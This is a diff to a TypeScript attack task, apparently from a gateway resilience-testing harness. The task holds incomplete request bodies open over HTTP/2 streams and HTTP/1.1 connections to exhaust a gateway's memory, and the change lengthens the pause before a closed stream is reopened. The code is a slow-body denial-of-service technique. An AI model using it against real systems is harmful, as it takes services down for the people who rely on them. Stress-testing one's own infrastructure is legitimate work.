@@ -1,5 +1,5 @@
 // No token, and bodies without their end: as many streams as the gateway lets a connection have, over HTTP/2 and HTTP/1.1.
-// A stream that is ended by the gateway is opened anew.
+// A stream that is ended by the gateway is opened anew, a second later.
 import { connect as connectTcp } from "node:net";
 import type { ClientHttp2Session, Settings } from "node:http2";
 import { setTimeout as delay } from "node:timers/promises";
@@ -14,6 +14,8 @@ export interface UnfinishedBodies extends AttackTask {
   readonly bytesPerSecond: number;
 }
 
+/** Before a stream is opened anew: memory is what this attack is after, not a rate of requests. */
+const PAUSE_MS = 1000;
 const PIECE = Buffer.alloc(16 * 1024, 32);
 
 runAttacker((task: UnfinishedBodies, counts) => {
@@ -61,7 +63,7 @@ async function streamsOf(session: ClientHttp2Session, { link, size, counts }: Me
       counts.add("MiB", PIECE.length / 1024 / 1024);
     }
     await closed;
-    await delay(50);
+    await delay(PAUSE_MS);
   }
 }
 
@@ -82,6 +84,6 @@ async function http1Connection(task: UnfinishedBodies, { link, size, counts }: M
       counts.add("MiB", PIECE.length / 1024 / 1024);
     }
     await closed;
-    await delay(50);
+    await delay(PAUSE_MS);
   }
 }
